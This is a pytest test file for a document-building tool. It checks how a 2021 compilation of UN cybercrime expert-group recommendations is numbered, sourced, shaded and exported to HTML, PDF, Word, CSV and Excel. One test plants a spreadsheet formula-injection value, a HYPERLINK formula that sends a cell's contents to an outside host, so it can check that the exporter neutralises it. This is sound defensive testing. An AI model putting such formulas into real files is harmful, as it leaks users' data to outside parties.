"""The 2021 compilation: rows and provenance from the meetings, status, adopted list,
exports, watermarks, and the errors a secretariat can make in its files."""

from __future__ import annotations

import csv
import io
import itertools
import re
import shutil
import subprocess
from pathlib import Path
from xml.etree.ElementTree import Element

import openpyxl
import pytest
import tinyhtml5

from conftest import FIXTURE_CONTENT, CheckRun
from docxtools import Docx
from pdftools import page_png
from rapporteur import cli
from rapporteur.build.targets import plan
from rapporteur.i18n import translations
from rapporteur.load.compilation_checks import compilation_languages, recommendation_items
from rapporteur.load.loader import load_library
from rapporteur.model.compile import assemble_compilation
from rapporteur.model.plaintext import plain_text
from rapporteur.write.exports import columns

XHTML = "{http://www.w3.org/1999/xhtml}"
STOCKTAKING = "2021-stocktaking"


@pytest.fixture(scope="module")
def library():
    """The fixture content's (tests/fixtures/content): the ids and numbers these tests
    name are its own, whatever content/ becomes."""
    return load_library(FIXTURE_CONTENT)


@pytest.fixture(scope="module")
def fixture_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every document of the fixture content, built once for this module."""
    out = tmp_path_factory.mktemp("compilation") / "build"
    assert cli.build(FIXTURE_CONTENT, out, quiet=True) == 0
    return out


def test_one_row_per_recommendation_and_nested_item(library) -> None:
    comp = library.compilations[STOCKTAKING]
    expected = sum(
        1
        for meeting_id in comp.compilation.record.meetings
        for _ in recommendation_items(library.meetings[meeting_id])
    )
    added = len(comp.status.record.new)
    for lang in compilation_languages(library, comp):
        rows = assemble_compilation(library, STOCKTAKING, lang).rows()
        assert len(rows) == expected + added
        assert [r.number for r in rows if " " not in r.number] == [
            str(n) for n in range(1, expected + 1)
        ], "numbers run through the compilation"


def test_provenance_is_the_meetings_own_numbering(library) -> None:
    rows = {r.id: r for r in assemble_compilation(library, STOCKTAKING, "zh").rows()}
    assert rows["leg-technology-neutral"].source.reference == "9 (a)"
    assert rows["leg-training-justice"].source.reference == "9 (n) (一)"
    assert rows["crim-critical-infrastructure"].source.reference == "10 (f) (十五)"
    assert rows["crim-prevention"].source.reference == "10 (q)"
    assert rows["crim-prevention"].source.symbol == "E/CN.15/2018/12"
    en = {r.id: r for r in assemble_compilation(library, STOCKTAKING, "en").rows()}
    assert en["leg-training-justice"].source.reference == "9 (n) (i)"
    assert en["le-capacity-forensics"].source.symbol == "UNODC/CCPCJ/EG.4/2019/2"


def shown(text: str) -> str:
    """Text as a reader sees it: the invisible break controls of the source column
    (render.unbreakable) left out, no-break spaces (and the narrow ones of French
    typography) as spaces."""
    return re.sub("[\u200b\u2060]", "", text).replace("\u00a0", " ").replace("\u202f", " ").strip()


def table_rows(html_path: Path) -> list[dict[str, str]]:
    root = tinyhtml5.parse(html_path.read_text(encoding="utf-8"))
    out = []
    for tr in root.iter(XHTML + "tr"):
        cells = {
            (td.get("class") or ""): shown("".join(td.itertext())) for td in tr.iter(XHTML + "td")
        }
        if cells:
            out.append(
                {
                    "id": tr.get("id", "").removeprefix("item-"),
                    "state": tr.get("data-state"),
                    "class": tr.get("class") or "",
                    "style": tr.get("style") or "",
                    **cells,
                }
            )
    return out


def accepted(td: Element, accept: bool) -> str:
    """A cell's text with its marked changes accepted (or rejected)."""
    dropped = XHTML + ("del" if accept else "ins")

    def text(node: Element) -> str:
        inner = (node.text or "") + "".join(
            ("" if child.tag == dropped else text(child)) + (child.tail or "") for child in node
        )
        return inner

    return shown(text(td))


def text_cells(html_path: Path) -> dict[str, Element]:
    root = tinyhtml5.parse(html_path.read_text(encoding="utf-8"))
    return {
        tr.get("id", "").removeprefix("item-"): td
        for tr in root.iter(XHTML + "tr")
        for td in tr.iter(XHTML + "td")
        if td.get("class") == "text"
    }


def test_status_edition_shows_source_status_and_amendments(fixture_build: Path, library) -> None:
    rows = {
        r["id"]: r
        for r in table_rows(fixture_build / "compilations" / f"{STOCKTAKING}.status.en.html")
    }
    assert rows["leg-technology-neutral"]["source"] == "E/CN.15/2018/12, para. 9 (a)"
    assert rows["leg-technology-neutral"]["status"] == "Agreed"
    assert rows["leg-technology-neutral-bis"]["no"] == "1 bis"
    assert rows["leg-technology-neutral-ter"]["no"] == "1 ter"
    assert rows["leg-technology-neutral-bis"]["source"] == "Proposed at the meeting"
    assert rows["leg-sovereignty"]["status"] == "Agreed ad referendum (as amended)"
    target = rows["crim-child-abuse"]["no"]
    assert rows["crim-child-abuse-suicide"]["status"] == f"Merged into No. {target}"
    assert rows["leg-budapest-convention"]["status"] == "Deleted"
    # agreed rows are shaded, ad referendum ones more lightly, the others not at all
    shades = {
        state: {r["style"] for r in rows.values() if r["state"] == state}
        for state in ("agreed", "agreed-ad-referendum", "proposed", "deleted")
    }
    assert len(shades["agreed"]) == len(shades["agreed-ad-referendum"]) == 1
    assert shades["agreed"] != shades["agreed-ad-referendum"]
    assert shades["proposed"] == shades["deleted"] == {""}
    # an amended text is the report's with the amendment marked: accept all gives the
    # amended text, reject all the report's
    model = {r.id: r for r in assemble_compilation(library, STOCKTAKING, "en").rows()}
    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        model = {r.id: r for r in assemble_compilation(library, STOCKTAKING, lang).rows()}
        cells = text_cells(fixture_build / "compilations" / f"{STOCKTAKING}.status.{lang}.html")
        amended = [r for r in model.values() if r.original is not None]
        assert amended, "the fixture amends an item"
        for row in amended:
            assert accepted(cells[row.id], True) == shown(plain_text(row.content)), row.id
            assert accepted(cells[row.id], False) == shown(plain_text(row.original)), row.id
    zh = {
        r["id"]: r
        for r in table_rows(fixture_build / "compilations" / f"{STOCKTAKING}.status.zh.html")
    }
    assert zh["leg-training-justice"]["source"] == "E/CN.15/2018/12，第 9 (n) (一) 段"
    assert zh["leg-technology-neutral-bis"]["no"] == "1 之二"
    html = (fixture_build / "compilations" / f"{STOCKTAKING}.status.zh.html").read_text(
        encoding="utf-8"
    )
    assert "截至 2021 年 4 月 7 日下午 6 时的状态" in shown(html)
    assert 'class="legend"' in html


def test_the_compilation_as_issued_has_no_status(fixture_build: Path, library) -> None:
    """The CRP as circulated: no Status column or status time, no item proposed at the
    meeting, every text as its report has it. In every language."""
    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        issued = fixture_build / "compilations" / f"{STOCKTAKING}.{lang}.html"
        html = issued.read_text(encoding="utf-8")
        assert 'class="status' not in html and 'class="legend"' not in html
        assert "<ins>" not in html and "<del>" not in html
        rows = table_rows(issued)
        status = assemble_compilation(library, STOCKTAKING, lang, "status").rows()
        reported = [r for r in status if r.source is not None]
        assert [r["id"] for r in rows] == [r.id for r in reported]
        for row, shown_row in zip(reported, rows, strict=True):
            text = plain_text(row.original if row.original is not None else row.content)
            assert shown_row["text"] == shown(text), row.id
            assert set(shown_row) == {"id", "state", "class", "style", "no", "text", "source"}


def test_adopted_list_keeps_agreed_items_with_their_lead_ins(fixture_build: Path, library) -> None:
    """Every agreed item once, in order; a nested one under its lead-in, which stands
    for context when it was not agreed; the groups numbered, the items under a lead-in
    labelled; each theme's list ends with a full stop. In every language."""
    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        spec = library.languages.record.root[lang]
        rows = table_rows(fixture_build / "adopted" / f"{STOCKTAKING}.{lang}.html")
        status = assemble_compilation(library, STOCKTAKING, lang).rows()
        by_id = {r.id: r for r in status}
        agreed = [r.id for r in status if r.state == "agreed"]
        assert [r["id"] for r in rows if "context" not in r["class"]] == agreed
        numbered = [r for r in rows if "sub-item" not in r["class"]]
        assert [r["no"] for r in numbered] == [str(n) for n in range(1, len(numbered) + 1)]
        assert all(set(r) == {"id", "state", "class", "style", "no", "text"} for r in rows)
        nested = [r for r in rows if "sub-item" in r["class"]]
        assert nested, "the fixture agrees a nested item"
        for index, row in enumerate(rows):
            lead_in = by_id[row["id"]].lead_in
            if lead_in is None:
                assert "sub-item" not in row["class"]
                continue
            assert row["no"] == "" and "sub-item" in row["class"]
            # its lead-in is the numbered row above it and its siblings
            above = next(r for r in reversed(rows[:index]) if "sub-item" not in r["class"])
            assert above["id"] == lead_in
            assert ("context" in above["class"]) == (by_id[lead_in].state != "agreed")
        assert any("context" in r["class"] for r in rows), "the fixture has a lead-in not agreed"
        html = (fixture_build / "adopted" / f"{STOCKTAKING}.{lang}.html").read_text(
            encoding="utf-8"
        )
        # its own document: its symbol and date, its status time said as agreed
        adopted = library.compilations[STOCKTAKING].compilation.record.adopted
        assert f'data-symbol="{adopted.symbol}"' in html
        assert library.compilations[STOCKTAKING].compilation.record.symbol not in html
        said = translations(lang).gettext("Agreed as at %(time)s").split("%(time)s")[0]
        assert f'<p class="status-time">{said}' in html
        root = tinyhtml5.parse(html)
        for table in root.iter(XHTML + "table"):
            texts = [
                shown("".join(td.itertext()))
                for td in table.iter(XHTML + "td")
                if td.get("class") == "text"
            ]
            assert texts[-1].endswith(spec.list_punctuation.end), texts[-1]
            assert not any(t.endswith(spec.list_punctuation.end) for t in texts[:-1]), texts
        # an agreed item's text is its amended text, its final punctuation aside
        ends = spec.list_punctuation.between + spec.list_punctuation.end
        for row in rows:
            if "context" in row["class"]:
                continue
            text = row["text"].split(" ", 1)[1] if "sub-item" in row["class"] else row["text"]
            model = shown(plain_text(by_id[row["id"]].content))
            assert text.rstrip(ends) == model.rstrip(ends), row["id"]


def test_brackets_in_an_agreed_item_are_an_error(
    content: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status = content / "compilations" / STOCKTAKING / "status.yaml"
    text = status.read_text(encoding="utf-8").replace(
        "  leg-sovereignty:\n    state: agreed-ad-referendum",
        "  leg-sovereignty:\n    state: agreed",
    )
    status.write_text(text, encoding="utf-8")
    assert (
        cli.build(
            content, tmp_path / "build", compilations=[STOCKTAKING], kinds=["adopted"], jobs=1
        )
        == 2
    )
    err = capsys.readouterr().err.replace(str(content), "<root>").splitlines()
    # the amended texts are block scalars: an error points at the "en: |" line above its text
    line = next(
        i for i, row in enumerate(text.splitlines()) if "should respect the sovereignty" in row
    )
    assert err == [
        f"<root>/compilations/{STOCKTAKING}/status.yaml:{line}:11: item 'leg-sovereignty' "
        "(No. 2) is agreed but its en text still has [brackets]",
        f"<root>/compilations/{STOCKTAKING}/status.yaml:{line + 2}:11: item 'leg-sovereignty' "
        "(No. 2) is agreed but its zh text still has [brackets]",
        "2 errors; nothing was built.",
    ]
    assert not (tmp_path / "build").exists()


def test_csv_has_one_row_per_item_with_every_language(fixture_build: Path, library) -> None:
    langs = compilation_languages(library, library.compilations[STOCKTAKING])
    record = library.compilations[STOCKTAKING].compilation.record
    langs.sort(key=lambda lang: lang != record.original_language)  # the original first
    by_lang = {lang: assemble_compilation(library, STOCKTAKING, lang) for lang in langs}
    data = (fixture_build / "compilations" / f"{STOCKTAKING}.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    sheet = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert sheet[0] == columns(langs)
    rows = by_lang[record.original_language].rows()
    assert len(sheet) == len(rows) + 1
    for line, row in zip(sheet[1:], rows, strict=True):
        assert line[0] == row.id and line[1] == row.number and line[6] == row.state
        assert line[3] == (row.source.symbol if row.source else "")
        texts = line[len(sheet[0]) - len(langs) :]
        assert texts == [
            plain_text(by_lang[lang].rows()[rows.index(row)].content) for lang in langs
        ]


def red_share(pdf: Path, tmp_path: Path, page: int) -> float:
    """How much of a page is the watermark's red, as a reader sees the page."""
    from PIL import Image

    image = Image.open(page_png(pdf, page, tmp_path, dpi=40)).convert("RGB")
    pixels = list(image.get_flattened_data())
    return sum(1 for r, g, b in pixels if r > g + 25 and r > b + 25) / len(pixels)


def test_specimen_watermark(fixture_build: Path, tmp_path: Path) -> None:
    for path in (
        "reports/cybercrime-2019.en.pdf",
        "reports/cybercrime-2020.zh.pdf",
        f"compilations/{STOCKTAKING}.en.pdf",
        f"adopted/{STOCKTAKING}.zh.pdf",
    ):
        html = (fixture_build / path).with_suffix(".html").read_text(encoding="utf-8")
        assert re.search(r'<div class="watermark"[^>]*>[^<]*SPECIMEN', html), path
        for page in (1, 2):
            assert red_share(fixture_build / path, tmp_path, page) > 0.01, f"{path} page {page}"
    assert red_share(fixture_build / "reports/cybercrime-2018.en.pdf", tmp_path, 2) == 0
    for path in ("reports/cybercrime-2019.zh.docx", f"compilations/{STOCKTAKING}.en.docx"):
        doc = Docx(fixture_build / path)
        headers = [n for n in doc.names if re.fullmatch(r"word/header\d+\.xml", n)]
        assert headers and all(
            b'string="' in doc.zip.read(n) and b"SPECIMEN" in doc.zip.read(n) for n in headers
        ), path
    clean = Docx(fixture_build / "reports/cybercrime-2018.zh.docx")
    assert not any(b"SPECIMEN" in clean.zip.read(n) for n in clean.names if "header" in n)


def compilation_case(content: Path, old: str, new: str, name: str = "status.yaml") -> None:
    path = content / "compilations" / STOCKTAKING / name
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, old
    path.write_text(text.replace(old, new), encoding="utf-8")


C = f"<root>/compilations/{STOCKTAKING}"


@pytest.mark.parametrize(
    ("old", "new", "name", "expected"),
    [
        (
            "  pr-schools:",
            "  pr-school:",
            "status.yaml",
            f"{C}/status.yaml:39:3: unknown recommendation 'pr-school' (not in the meetings compiled)",
        ),
        (
            "    into: crim-child-abuse\n",
            "    into: crim-child-abuse-suicide\n",
            "status.yaml",
            f"{C}/status.yaml:30:11: 'crim-child-abuse-suicide' is merged into itself",
        ),
        (
            "  crim-child-abuse:\n    state: agreed\n",
            "  crim-child-abuse:\n    state: merged\n    into: crim-child-abuse-suicide\n",
            "status.yaml",
            f"{C}/status.yaml:30:11: items merged into each other in a cycle: crim-child-abuse-suicide "
            "→ crim-child-abuse → crim-child-abuse-suicide",
        ),
        (
            "    after: leg-technology-neutral\n    state: proposed",
            "    after: leg-technology-neutrality\n    state: proposed",
            "status.yaml",
            f"{C}/status.yaml:43:12: 'leg-technology-neutral-bis' comes after unknown item "
            "'leg-technology-neutrality'",
        ),
        (
            "  leg-new-instrument:\n    state: proposed\n",
            "  leg-new-instrument:\n    state: proposed\n    supported_by: [CHN, XYZ]\n",
            "status.yaml",
            f"{C}/status.yaml:24:25: supported_by: unknown State 'XYZ' (not in terms.yaml's states)",
        ),
        (
            "symbol: UNODC/CCPCJ/EG.4/2021/L.1",
            "symbol: UNODC/CCPCJ/EG.4/2021/CRP.1",
            "compilation.yaml",
            f"{C}/compilation.yaml:14:11: symbol UNODC/CCPCJ/EG.4/2021/CRP.1 is also the symbol of "
            f"{C}/compilation.yaml (symbol:)",
        ),
        (
            "  - id: prevention\n    sources:\n      - {meeting: cybercrime-2020, agenda_item: prevention}\n",
            "",
            "compilation.yaml",
            f"{C}/compilation.yaml:17:46: agenda item 'prevention' of 'cybercrime-2020' has "
            "recommendations but feeds no theme",
        ),
        (
            "start: 2021-04-06, end: 2021-04-08",
            "start: 2021-04-08, end: 2021-04-06",
            "compilation.yaml",
            f"{C}/compilation.yaml:10:35: date range ends before it starts",
        ),
        (
            "meetings: [cybercrime-2018,",
            "meetings: [cybercrime-2017,",
            "compilation.yaml",
            f"{C}/compilation.yaml:17:12: unknown meeting 'cybercrime-2017'",
        ),
        (
            "{meeting: cybercrime-2020, agenda_item: prevention}",
            "{meeting: cybercrime-2020, agenda_item: preventing}",
            "compilation.yaml",
            f"{C}/compilation.yaml:37:49: meeting 'cybercrime-2020' has no agenda item 'preventing'",
        ),
        (
            "  - id: prevention\n",
            "  - id: criminalization\n",
            "compilation.yaml",
            f"{C}/compilation.yaml:35:9: duplicate theme 'criminalization'",
        ),
        (
            "  prevention: Prevention\n",
            "",
            "en/text.yaml",
            f"{C}/en/text.yaml:12:3: theme 'prevention' has no title",
        ),
        (
            "        Member States should review their",
            "        Member States should review [[their",
            "status.yaml",
            f"{C}/status.yaml:46:11: unclosed '[[' or '[^' (write [[SYMBOL]] or [^note-id])",
        ),
        (
            "        Member States should review their",
            "        Member States should review[^nope] their",
            "status.yaml",
            f"{C}/status.yaml:46:11: footnote reference '[^nope]': a compilation has no footnotes",
        ),
    ],
)
def test_compilation_errors(
    content: Path, run_check: CheckRun, old: str, new: str, name: str, expected: str
) -> None:
    compilation_case(content, old, new, name)
    if name == "compilation.yaml" and "prevention" in old:
        for lang in ("zh", "en"):
            compilation_case(
                content,
                "  prevention: 预防\n" if lang == "zh" else "  prevention: Prevention\n",
                "",
                f"{lang}/text.yaml",
            )
    status, lines = run_check(content)
    assert status == 2
    assert expected in lines, lines


def test_compilation_languages_are_those_all_meetings_share(content: Path) -> None:
    shutil.rmtree(content / "compilations" / STOCKTAKING / "zh")
    meeting = content / "meetings" / "cybercrime-2020" / "meeting.yaml"
    meeting.write_text(
        meeting.read_text(encoding="utf-8").replace("  zh: unofficial\n", ""), encoding="utf-8"
    )
    shutil.rmtree(content / "meetings" / "cybercrime-2020" / "zh")
    status = content / "compilations" / STOCKTAKING / "status.yaml"
    status.write_text(
        re.sub(r"(?m)^ +zh: .*\n", "", status.read_text(encoding="utf-8")), encoding="utf-8"
    )
    library = load_library(content)
    from rapporteur.build.targets import plan

    langs = {t.lang for t in plan(library, compilations=[STOCKTAKING])}
    assert langs == {"en", "mul"}


def test_table_header_repeats_and_rows_hold_together(fixture_build: Path, library) -> None:
    from docxtools import NS, w
    from pdftools import pages

    pdf = pages(fixture_build / "compilations" / f"{STOCKTAKING}.en.pdf")
    for page in pdf[1:]:
        top = sorted(page.words, key=lambda word: word.y_min)
        body = [word.text for word in top if word.y_min > 22 * 72 / 25.4][:3]
        assert body[0] == "No." or re.fullmatch(r"[A-F]\.", body[0]), (
            "a page starts with the table's header row, or with a new theme"
        )
    doc = Docx(fixture_build / "compilations" / f"{STOCKTAKING}.en.docx")
    tables = doc.xml("word/document.xml").findall(".//w:tbl", NS)[1:]  # [0] is the masthead
    assert len(tables) == len(library.compilations[STOCKTAKING].compilation.record.themes)
    for table in tables:
        rows = table.findall("w:tr", NS)
        assert rows[0].find("w:trPr/w:tblHeader", NS) is not None
        assert all(r.find("w:trPr/w:cantSplit", NS) is not None for r in rows)
        assert all(r.find("w:trPr/w:tblHeader", NS) is None for r in rows[1:])
        assert w("tbl") == table.tag


MINI_STATUS = """\
as_of: 2021-04-06 10:00
items:
  crim-offline-provisions: {state: agreed}
  crim-procedural-powers: {state: deleted}
  crim-specific-statutes: {state: merged, into: crim-offline-provisions}
  crim-core-offences:
    state: agreed
    text: {en: Member States should criminalize core cybercrime conduct;, zh: 会员国应当将核心网络犯罪行为定为刑事犯罪；}
new:
  - {id: crim-new-one, after: crim-offline-provisions, state: agreed, text: {en: First added;, zh: 新增一；}}
  - {id: crim-new-two, after: crim-offline-provisions, text: {en: "Second [added];", zh: "新增二[]；"}}
"""


def test_small_compilation_status_bis_and_adopted_list(content: Path, tmp_path: Path) -> None:
    mini = content / "compilations" / "mini"
    (mini / "en").mkdir(parents=True)
    (mini / "zh").mkdir()
    (mini / "compilation.yaml").write_text(
        "symbol: UNODC/CCPCJ/EG.4/2021/CRP.9\ndistribution: limited\ndate_of_issue: 2021-03-01\n"
        "original_language: en\nmeeting: {body: EG-CYBERCRIME, number: 7, dates: "
        "{start: 2021-04-06, end: 2021-04-08}, venue: VIENNA}\nmeetings: [cybercrime-2018]\n"
        "adopted: {symbol: UNODC/CCPCJ/EG.4/2021/L.9, distribution: limited, "
        "date_of_issue: 2021-04-08}\n"
        "themes:\n  - id: everything\n    sources:\n"
        "      - {meeting: cybercrime-2018, agenda_item: legislation-and-frameworks}\n"
        "      - {meeting: cybercrime-2018, agenda_item: criminalization}\n",
        encoding="utf-8",
    )
    for lang, title in (("en", "Everything"), ("zh", "全部")):
        (mini / lang / "text.yaml").write_text(
            f"title: {title}\nintroduction:\n  - id: intro\n    text: {title}.\n"
            f"themes:\n  everything: {title}\n",
            encoding="utf-8",
        )
    (mini / "status.yaml").write_text(MINI_STATUS, encoding="utf-8")
    out = tmp_path / "build"
    assert cli.build(content, out, compilations=["mini"], formats=["html"], jobs=1) == 0
    rows = {r["id"]: r for r in table_rows(out / "compilations" / "mini.status.en.html")}
    items = recommendation_items(load_library(content).meetings["cybercrime-2018"])
    assert len(rows) == len(list(items)) + 2  # and the two new ones
    assert [
        rows[i]["no"]
        for i in (
            "crim-offline-provisions",
            "crim-new-one",
            "crim-new-two",
            "crim-procedural-powers",
        )
    ] == ["27", "27 bis", "27 ter", "28"]
    assert rows["crim-specific-statutes"]["status"] == "Merged into No. 27"
    assert rows["crim-procedural-powers"]["status"] == "Deleted"
    assert rows["crim-core-offences"]["status"] == "Agreed (as amended)"
    assert rows["crim-new-two"]["status"] == "Proposed"
    adopted = table_rows(out / "adopted" / "mini.en.html")
    assert [(r["no"], r["id"]) for r in adopted] == [
        ("1", "crim-offline-provisions"),
        ("2", "crim-new-one"),
        ("3", "crim-core-offences"),
    ]
    # the last item of the list ends it
    assert adopted[2]["text"] == "Member States should criminalize core cybercrime conduct."


def test_a_footnote_in_a_compiled_recommendation(content: Path, tmp_path: Path) -> None:
    """The report keeps its note; the table row, which has no footnotes, keeps the text."""
    meeting = content / "meetings" / "cybercrime-2020"
    for lang, old in (("en", "online safety in"), ("zh", "网上安全纳入")):
        (meeting / lang / "footnotes.yaml").write_text("safety-note: A note.\n", encoding="utf-8")
        path = meeting / lang / "recommendations.yaml"
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1
        call = old.replace("safety", "safety[^safety-note]").replace("安全", "安全[^safety-note]")
        path.write_text(text.replace(old, call), encoding="utf-8")
    assert cli.check(content) == 0
    out = tmp_path / "build"
    assert cli.build(content, out, formats=["html"], jobs=1) == 0
    row = next(
        r
        for r in table_rows(out / "compilations" / "2021-stocktaking.en.html")
        if "online safety in school" in r["text"]
    )
    assert "online safety in school curricula" in row["text"]
    report = (out / "reports" / "cybercrime-2020.en.html").read_text(encoding="utf-8")
    assert 'class="footnote"' in report and "A note." in report


def test_no_live_formula_in_the_workbook(content: Path, tmp_path: Path) -> None:
    path = content / "meetings" / "cybercrime-2020" / "en" / "recommendations.yaml"
    old = "text: Member States should include online safety in school curricula;"
    new = 'text: \'=HYPERLINK("http://example.org/?"&A1,"Click")\''
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1
    path.write_text(text.replace(old, new), encoding="utf-8")
    out = tmp_path / "build"
    assert cli.build(content, out, compilations=[STOCKTAKING], formats=["xlsx"]) == 0
    workbook = openpyxl.load_workbook(out / "compilations" / f"{STOCKTAKING}.xlsx")
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value]
    formula = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
    assert formula and all(c.data_type == "s" for c in formula)


def test_a_compilation_may_not_take_a_meetings_id(content: Path, run_check: CheckRun) -> None:
    shutil.copytree(
        content / "compilations" / STOCKTAKING, content / "compilations" / "cybercrime-2019"
    )
    status, lines = run_check(content)
    assert status == 2
    assert (
        "<root>/compilations/cybercrime-2019:1:1: compilation 'cybercrime-2019' has the id "
        "of a meeting; their redlines would be one file"
    ) in lines


def test_the_adopted_list_keeps_every_theme_letter(content: Path, tmp_path: Path) -> None:
    """A theme with nothing agreed keeps its letter and says so; the others keep theirs,
    as in the workplan (no relettering). In every language of the compilation."""
    from rapporteur.i18n import translations
    from rapporteur.render.compilation_html import render_compilation_html

    library = load_library(content)
    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        full = assemble_compilation(library, STOCKTAKING, lang)
        adopted = assemble_compilation(library, STOCKTAKING, lang, "adopted")
        assert [(t.id, t.label) for t in adopted.themes] == [(t.id, t.label) for t in full.themes]
        empty = [t for t in adopted.themes if not t.rows]
        assert empty, "the fixture has a theme with nothing agreed"
        said = translations(lang).gettext("No conclusions or recommendations were adopted.")
        assert render_compilation_html(adopted).count(said) == len(empty), lang
        # and in the PDF, which is laid out in parts: a theme with no rows is not dropped
        out = tmp_path / "build"
        assert (
            cli.build(
                content,
                out,
                compilations=[STOCKTAKING],
                kinds=["adopted"],
                formats=["pdf"],
                langs=[lang],
                quiet=True,
            )
            == 0
        )
        pdf = out / "adopted" / f"{STOCKTAKING}.{lang}.pdf"
        shown = subprocess.run(
            ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert shown.count(said) == len(empty), lang


def test_check_says_what_the_adopted_list_leaves_out(
    content: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An item not agreed under a lead-in whose other items were is named in check's
    summary; a compilation without an adopted: block is said to make no adopted list."""
    library = load_library(content)
    record = library.compilations[STOCKTAKING].compilation.record
    rows = assemble_compilation(library, STOCKTAKING, record.original_language).rows()
    taken = {r.lead_in for r in rows if r.state == "agreed" and r.lead_in}
    left_out = {r.id for r in rows if r.lead_in in taken and r.state != "agreed"}
    assert left_out, "the fixture agrees some items of a list and not others"
    assert cli.check(content) == 0
    out = capsys.readouterr().out.splitlines()
    named = {
        re.search(r"'([^']+)'", line).group(1) for line in out if "left out from under" in line
    }
    assert named == left_out
    assert f"{STOCKTAKING}: adopted list {record.adopted.symbol}:" in "\n".join(out)
    # without its own symbol and date, no adopted list is made, and check says so
    path = content / "compilations" / STOCKTAKING / "compilation.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("adopted:")
    end = text.index("meetings:")
    path.write_text(text[:start] + text[end:], encoding="utf-8")
    assert cli.check(content) == 0
    out = capsys.readouterr().out
    assert f"{STOCKTAKING}: no adopted list is made" in out
    assert not any(t.kind == "adopted" for t in plan(load_library(content)))


def source_lines(document) -> list[list[str]]:
    """The lines of each Source cell as laid out, invisible break controls left out."""
    cells = []

    def walk(box) -> None:
        element = getattr(box, "element", None)
        if element is not None and element.get("class") == "source" and box.element_tag == "td":
            lines = [
                shown("".join(t.text for t in line.descendants() if hasattr(t, "text")))
                for line in box.children
            ]
            cells.append([line for line in lines if line])
            return
        for child in getattr(box, "children", None) or []:
            walk(child)

    for page in document.pages:
        walk(page._page_box)
    return cells


def test_source_column_breaks_only_after_a_slash(content: Path) -> None:
    """A symbol breaks after a "/" only, and "para." keeps its number, in every
    language and in both editions with sources; the narrow columns are ragged-right."""
    from rapporteur.render.compilation_html import render_compilation_html
    from rapporteur.write.pdf import render_document

    library = load_library(content)
    symbols = {m.meeting.record.symbol for m in library.meetings.values()}
    broken = 0  # symbols laid out on two lines
    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        for edition in ("issued", "status"):
            compilation = assemble_compilation(library, STOCKTAKING, lang, edition)
            html = render_compilation_html(compilation)
            cells = source_lines(render_document(html))
            assert cells, (lang, edition)
            for lines in cells:
                for line, following in itertools.pairwise(lines):
                    joined = line + following
                    symbol = next((s for s in symbols if s in joined and s not in line), None)
                    if symbol and not line.endswith(symbol):
                        broken += 1
                        assert line.endswith("/"), (lang, edition, line, following)
                    assert not line.endswith("para."), (lang, edition, line)
    assert broken, "the fixture has a symbol too long for one line of the column"


def test_status_edition_docx_tracks_amendments_and_shades_rows(
    fixture_build: Path, library
) -> None:
    """In Word the amendments are tracked changes: Accept All gives the amended texts,
    Reject All the reports'; agreed rows carry the same shading as in the PDF."""
    from docxtools import NS, w
    from rapporteur.render.compilation_html import STATE_SHADES
    from redlinetools import resolved_docx

    for lang in compilation_languages(library, library.compilations[STOCKTAKING]):
        path = fixture_build / "compilations" / f"{STOCKTAKING}.status.{lang}.docx"
        rows = assemble_compilation(library, STOCKTAKING, lang).rows()
        accepted_text = [shown(t) for t in resolved_docx(path, accept=True)]
        rejected_text = [shown(t) for t in resolved_docx(path, accept=False)]
        for row in (r for r in rows if r.original is not None):
            assert shown(plain_text(row.content)) in accepted_text, row.id
            assert shown(plain_text(row.original)) in rejected_text, row.id
        body = Docx(path).xml("word/document.xml")
        tables = [
            t for t in body.iter(w("tbl")) if t.find("w:tr/w:trPr/w:tblHeader", NS) is not None
        ]
        table_rows = [
            tr
            for t in tables
            for tr in t.iter(w("tr"))
            if tr.find("w:trPr/w:tblHeader", NS) is None
        ]
        fills = [{shd.get(w("fill")) for shd in tr.iter(w("shd"))} for tr in table_rows]
        assert len(fills) == len(rows)
        for row, fill in zip(rows, fills, strict=True):
            wanted = STATE_SHADES.get(row.state)
            assert fill == ({wanted.lstrip("#").upper()} if wanted else set()), row.id
